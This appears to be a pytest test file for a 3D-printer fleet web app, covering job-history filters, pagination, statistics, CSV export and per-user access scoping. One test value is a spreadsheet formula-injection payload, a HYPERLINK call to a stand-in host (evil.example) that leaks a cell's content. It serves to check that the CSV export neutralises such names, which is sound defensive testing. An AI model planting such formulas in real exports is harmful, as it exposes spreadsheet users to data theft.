"""The print-jobs history through the web app: filters, pages, statistics, CSV, JSON, scoping."""

from __future__ import annotations

import csv
import io
import re

import pytest
from flask.testing import FlaskClient

from printfleet_protocol import SCHEMA_VERSION
from printfleet_protocol.payloads import JobEvent
from storage import IssuedCommand

from .conftest import ALICE, BOB, write_messages
from .flask_client import sign_in, text

DAY = 86400.0
HOUR = 3600.0
T0 = 1_767_225_600.0  # 2026-01-01 00:00 UTC
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def job(seq: int, ts: float, job_id: str, kind: str, transaction: str | None = None,
        file_name: str | None = None, **fields) -> JobEvent:
    return JobEvent(v=SCHEMA_VERSION, ts=ts, seq=seq, job_id=job_id, event=kind,
                    file_name=file_name or f"{job_id}.gcode",
                    origin="printfleet" if transaction else "sd_card",
                    command_transaction=transaction, **fields)


@pytest.fixture
def fleet(store, users, db_path):
    """Alice's printers a-1 and a-2 with five jobs, Bob's b-1 with one."""
    alice, bob = users[ALICE[0]], users[BOB[0]]
    store.add_device("a-1", "Alpha", alice, "x")
    store.add_device("a-2", "Beta", alice, "x")
    store.add_device("b-1", "Bob's Voron", bob, "x")
    for transaction, device in (("c-1", "a-1"), ("c-2", "a-2"), ("c-3", "a-1")):
        store.record_command(IssuedCommand(transaction, device, alice, "start_print", {},
                                           T0, T0 + 60))
    write_messages(db_path, [
        # 2026-01-01: finished on a-1 from Printfleet, 2 h printing + 30 min paused, 4 m
        ("a-1", job(1, T0 + HOUR, "j1", "started", "c-1", slicer="PrusaSlicer",
                    slicer_version="2.7.1", progress_pct=0.0)),
        ("a-1", job(2, T0 + 2 * HOUR, "j1", "paused", "c-1", progress_pct=50.0)),
        ("a-1", job(3, T0 + 2.5 * HOUR, "j1", "resumed", "c-1", progress_pct=50.0)),
        ("a-1", job(4, T0 + 3.5 * HOUR, "j1", "finished", "c-1", progress_pct=100.0,
                    filament_used_mm=4000.0, filament_used_g=12.0)),
        # 2026-01-02: failed on a-1, started at the printer, 1 h, 1.5 m; a formula for a name
        ("a-1", job(5, T0 + DAY, "j2", "started", file_name=EVIL_NAME)),
        ("a-1", job(6, T0 + DAY + HOUR, "j2", "failed", file_name=EVIL_NAME,
                    reason="thermal runaway", progress_pct=30.0, filament_used_mm=1500.0,
                    filament_used_g=4.5)),
        # 2026-01-03: finished on a-2 from Printfleet, 3 h, 6 m
        ("a-2", job(1, T0 + 2 * DAY, "j3", "started", "c-2")),
        ("a-2", job(2, T0 + 2 * DAY + 3 * HOUR, "j3", "finished", "c-2", progress_pct=100.0,
                    filament_used_mm=6000.0, filament_used_g=18.0)),
        # 2026-01-04: cancelled on a-1 from Printfleet after 30 min
        ("a-1", job(7, T0 + 3 * DAY, "j4", "started", "c-3")),
        ("a-1", job(8, T0 + 3 * DAY + 0.5 * HOUR, "j4", "cancelled", "c-3")),
        # 2026-01-05: running on a-2
        ("a-2", job(3, T0 + 4 * DAY, "j5", "started", progress_pct=0.0)),
        ("a-2", job(4, T0 + 4 * DAY + 600, "j5", "paused", progress_pct=5.0,
                    time_left_s=7200.0)),
        # Bob's
        ("b-1", job(1, T0 + DAY, "secret", "started", file_name="bobs-secret.gcode")),
    ])
    return {"alice": alice, "bob": bob}


@pytest.fixture
def alice_client(app, fleet) -> FlaskClient:
    http = app.test_client()
    assert sign_in(http, *ALICE).status_code == 302
    return http


def listed(http: FlaskClient, query: str = "") -> list[str]:
    """Job ids (on the printer) the JSON list gives for a query, in order."""
    response = http.get(f"/api/v1/jobs?{query}")
    assert response.status_code == 200, text(response)
    return [j["job_id"] for j in response.get_json()["jobs"]]


def page_rows(html: str) -> list[str]:
    return re.findall(r'<tr data-job-id="(\d+)">', html)


def test_the_page_lists_every_job_newest_first_with_its_fields(alice_client):
    response = alice_client.get("/jobs")
    html = text(response)
    assert response.status_code == 200
    assert "<title>Print jobs · Printfleet</title>" in html
    assert len(page_rows(html)) == 5
    assert "bobs-secret" not in html
    assert html.index("j5.gcode") < html.index("j3.gcode") < html.index("j1.gcode")
    for shown in ("2026-01-01 01:00 UTC", "2026-01-01 03:30 UTC", "thermal runaway",
                  "PrusaSlicer 2.7.1", "alice@example.org", "at the printer", "running",
                  "1 (30 min)", "4.00 m · 12.0 g", "2 h 00 min"):
        assert shown in html, shown
    assert 'href="/jobs"' in text(alice_client.get("/printers"))  # the Jobs link in the header


def test_filters_filter(alice_client, fleet):
    assert listed(alice_client) == ["j5", "j4", "j3", "j2", "j1"]
    assert listed(alice_client, "printer=a-2") == ["j5", "j3"]
    assert listed(alice_client, "printer=b-1") == []  # Bob's printer: nothing, not his jobs
    assert listed(alice_client, f"user={fleet['alice']}") == ["j4", "j3", "j1"]
    assert listed(alice_client, "user=printer") == ["j5", "j2"]
    assert listed(alice_client, f"user={fleet['bob']}") == []
    assert listed(alice_client, "outcome=finished") == ["j3", "j1"]
    assert listed(alice_client, "outcome=running") == ["j5"]
    assert listed(alice_client, "from=2026-01-02&to=2026-01-03") == ["j3", "j2"]
    assert listed(alice_client, "from=2026-01-04") == ["j5", "j4"]
    assert listed(alice_client, "printer=a-1&outcome=cancelled&to=2026-01-04") == ["j4"]
    html = text(alice_client.get("/jobs?printer=a-2&outcome=finished"))
    assert len(page_rows(html)) == 1 and "j3.gcode" in html
    assert '<option value="a-2" selected>Beta</option>' in html
    assert '<option value="finished" selected>finished</option>' in html
    # The starters to choose from stay everyone's, whatever the filter.
    html = text(alice_client.get("/jobs?user=printer"))
    assert f'<option value="{fleet["alice"]}" >alice@example.org</option>' in html
    assert '<option value="printer" selected>At the printer</option>' in html


def test_pages_and_their_links(alice_client):
    first = alice_client.get("/api/v1/jobs?per_page=2").get_json()
    third = alice_client.get("/api/v1/jobs?per_page=2&page=3").get_json()
    assert (first["total"], first["page"], len(first["jobs"])) == (5, 1, 2)
    assert [j["job_id"] for j in third["jobs"]] == ["j1"]
    html = text(alice_client.get("/jobs?per_page=2&page=2&outcome="))
    assert "Page 2 of 3" in html
    assert 'rel="prev" href="?per_page=2&amp;page=1"' in html
    assert 'rel="next" href="?per_page=2&amp;page=3"' in html
    html = text(alice_client.get("/jobs?printer=a-1&per_page=1&page=2"))
    assert 'rel="next" href="?printer=a-1&amp;per_page=1&amp;page=3"' in html


def test_bad_filters_are_refused_with_a_clear_message(alice_client):
    page = alice_client.get("/jobs?from=yesterday")
    assert page.status_code == 400
    assert "&#39;from&#39; must be a date written YYYY-MM-DD" in text(page)
    api = alice_client.get("/api/v1/jobs?outcome=exploded")
    assert api.status_code == 400
    assert "'outcome' must be one of finished, failed, cancelled, running" in api.get_json()[
        "message"]
    assert alice_client.get("/api/v1/jobs?from=2026-02-01&to=2026-01-01").status_code == 400
    assert alice_client.get("/api/v1/jobs/stats?by=planet").status_code == 400


def test_statistics_match_the_hand_made_jobs(alice_client, fleet):
    (total,) = alice_client.get("/api/v1/jobs/stats").get_json()["stats"]
    assert {k: total[k] for k in ("prints", "finished", "failed", "cancelled", "running")} == {
        "prints": 5, "finished": 2, "failed": 1, "cancelled": 1, "running": 1}
    assert total["success_rate"] == 0.5  # 2 finished of 4 ended
    assert total["print_hours"] == 2 + 1 + 3 + 0.5
    assert (total["filament_used_mm"], total["filament_used_g"]) == (11500.0, 34.5)

    by_printer = {s["key"]: s for s in
                  alice_client.get("/api/v1/jobs/stats?by=printer").get_json()["stats"]}
    assert set(by_printer) == {"a-1", "a-2"}
    assert (by_printer["a-1"]["prints"], by_printer["a-1"]["success_rate"]) == (3, 0.3333)
    assert (by_printer["a-2"]["prints"], by_printer["a-2"]["success_rate"]) == (2, 1.0)
    assert by_printer["a-1"]["print_hours"] == 3.5 and by_printer["a-2"]["label"] == "Beta"

    by_user = {s["key"]: s for s in
               alice_client.get("/api/v1/jobs/stats?by=user").get_json()["stats"]}
    assert set(by_user) == {fleet["alice"], None}
    assert (by_user[fleet["alice"]]["prints"], by_user[fleet["alice"]]["print_hours"]) == (3, 5.5)
    assert by_user[None]["prints"] == 2

    filtered = alice_client.get("/api/v1/jobs/stats?from=2026-01-02&to=2026-01-02").get_json()
    assert filtered["stats"][0]["prints"] == 1 and filtered["stats"][0]["success_rate"] == 0.0

    html = text(alice_client.get("/jobs"))
    for field, shown in (("total-prints", "5"), ("total-success-rate", "50%"),
                         ("total-print-hours", "6.5"), ("total-filament", "11.50 m · 34.5 g")):
        assert re.search(rf'data-field="{field}">{re.escape(shown)}<', html), field


def test_the_csv_is_the_filtered_list(alice_client):
    response = alice_client.get("/jobs.csv?printer=a-1")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="printfleet-jobs-\d{8}\.csv"',
                        response.headers["Content-Disposition"])
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8"))))
    api = alice_client.get("/api/v1/jobs?printer=a-1").get_json()["jobs"]
    assert [r["id"] for r in rows] == [str(j["id"]) for j in api]
    assert [r["job_id"] for r in rows] == ["j4", "j2", "j1"]
    first = rows[2]
    assert (first["printer"], first["started_at"], first["ended_at"]) == (
        "Alpha", "2026-01-01T01:00:00Z", "2026-01-01T03:30:00Z")
    assert (first["outcome"], first["pause_count"], first["paused_s"], first["print_s"]) == (
        "finished", "1", "1800.0", "7200.0")
    assert (first["filament_used_mm"], first["slicer"], first["started_by"]) == (
        "4000.0", "PrusaSlicer", "alice@example.org")
    # A file name a spreadsheet would run as a formula is written as text.
    assert rows[1]["file_name"] == "'" + EVIL_NAME
    everything = alice_client.get("/jobs.csv").get_data().decode("utf-8")
    assert len(list(csv.reader(io.StringIO(everything)))) == 1 + 5
    assert "bobs-secret" not in everything
    assert alice_client.get("/jobs.csv?outcome=exploded").status_code == 400


def test_a_job_page_shows_every_field(alice_client):
    (j1,) = [j for j in alice_client.get("/api/v1/jobs").get_json()["jobs"]
             if j["job_id"] == "j1"]
    html = text(alice_client.get(f"/jobs/{j1['id']}"))
    for shown in ("Alpha", "finished", "2026-01-01 01:00 UTC", "2026-01-01 03:30 UTC",
                  "2 h 00 min", "1, 30 min paused", "100%", "4.00 m · 12.00 g",
                  "PrusaSlicer 2.7.1", "printfleet", "alice@example.org"):
        assert shown in html, shown
    assert alice_client.get(f"/api/v1/jobs/{j1['id']}").get_json() == j1


def test_another_users_job_is_404(app, store, alice_client):
    bob_http = app.test_client()
    sign_in(bob_http, *BOB)
    (secret,) = bob_http.get("/api/v1/jobs").get_json()["jobs"]
    assert bob_http.get(f"/jobs/{secret['id']}").status_code == 200
    assert alice_client.get(f"/jobs/{secret['id']}").status_code == 404
    assert alice_client.get(f"/api/v1/jobs/{secret['id']}").status_code == 404
    assert alice_client.get("/jobs/999999").status_code == 404
    # Once Bob removes his printer, its jobs are no longer his to see either.
    store.revoke_device("b-1")
    assert bob_http.get(f"/jobs/{secret['id']}").status_code == 404


def test_signed_out_visitors_see_nothing(app, fleet):
    http = app.test_client()
    for path in ("/jobs", "/jobs.csv", "/api/v1/jobs", "/api/v1/jobs/stats", "/jobs/1"):
        response = http.get(path)
        assert response.status_code in (302, 401), path
        assert "j1.gcode" not in text(response)
